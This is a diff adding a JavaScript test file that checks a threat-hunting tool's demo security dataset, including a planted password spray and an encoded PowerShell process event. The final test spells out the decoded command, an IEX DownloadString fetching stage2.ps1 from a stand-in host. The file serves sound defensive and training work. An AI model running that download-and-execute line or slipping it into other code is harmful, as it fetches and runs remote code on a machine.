@@ -1,0 +1,57 @@
+// The embedded demo data set: every table there, newest event now, and the attack story findable.
+import { test } from "node:test";
+import assert from "node:assert/strict";
+import { loadHuntbook } from "./helpers.mjs";
+
+const hb = await loadHuntbook();
+const NOW = Date.UTC(2026, 10, 29, 12, 0, 0);
+const demo = hb.loadDemo({ now: NOW });
+
+test("the demo workspace has the Sentinel tables", () => {
+  for (const t of ["SigninLogs", "SecurityAlert", "SecurityEvent", "OfficeActivity", "Syslog", "AzureActivity",
+    "CommonSecurityLog", "DnsEvents", "Heartbeat", "ThreatIntelligenceIndicator"]) {
+    assert.ok(demo.tables.includes(t), `${t} is there`);
+    assert.ok(demo.table(t).numRows > 10, `${t} has rows`);
+  }
+  assert.throws(() => demo.table("NoSuchTable"), /unknown table 'NoSuchTable'\. Tables are: AzureActivity/);
+});
+
+test("timestamps are shifted so the newest event is now", () => {
+  let newest = 0;
+  for (const t of demo.tables) {
+    const df = demo.table(t);
+    if (!df.columns.includes("TimeGenerated")) continue;
+    const top = df.sort("TimeGenerated", { descending: true }).row(0).TimeGenerated.getTime();
+    newest = Math.max(newest, top);
+  }
+  assert.equal(newest, NOW);
+  const office = demo.table("OfficeActivity").toRows();
+  assert.ok(office.filter((r) => r.TimeGenerated.getTime() > NOW - 86400000).length >= 5, "OfficeActivity has events in the last day");
+});
+
+test("SigninLogs has the schema's dynamic columns and the password spray", () => {
+  const s = demo.table("SigninLogs");
+  assert.equal(s.dtypes.LocationDetails, "dynamic");
+  assert.equal(s.dtypes.DeviceDetail, "dynamic");
+  assert.equal(s.dtypes.Status, "dynamic");
+  assert.equal(s.dtypes.TimeGenerated, "datetime");
+  const spray = s.isin("IPAddress", ["185.220.101.45", "45.153.160.2", "193.142.146.213"]);
+  const failures = spray.filter("ResultType", "50126");
+  assert.ok(failures.numRows >= 10, `spray failures: ${failures.numRows}`);
+  const users = failures.valueCounts("UserPrincipalName");
+  assert.ok(users.numRows >= 8, "sprayed against several accounts");
+  const success = spray.filter({ ResultType: "0", UserPrincipalName: "mike.jones@contoso.com" });
+  assert.ok(success.numRows >= 1, "one account was compromised");
+  const country = s.dynamicPath("LocationDetails", "countryOrRegion", "Country").filter("IPAddress", "185.220.101.45").row(0).Country;
+  assert.equal(country, "DE");
+});
+
+test("the encoded PowerShell download is in SecurityEvent", () => {
+  const procs = demo.table("SecurityEvent").filter("EventID", 4688).filter("Computer", "WKS-FIN-07.contoso.com");
+  const cmds = procs.toRows().map((r) => r.CommandLine);
+  const encoded = cmds.find((c) => /-EncodedCommand/i.test(c) && /-w hidden/i.test(c));
+  assert.ok(encoded, "an encoded command line");
+  const b64 = encoded.split(/\s+/).pop();
+  const text = Buffer.from(b64, "base64").toString("utf16le");
+  assert.equal(text, "IEX (New-Object Net.WebClient).DownloadString('http://cdn-updates.northwind-sync.xyz/stage2.ps1')");
+});
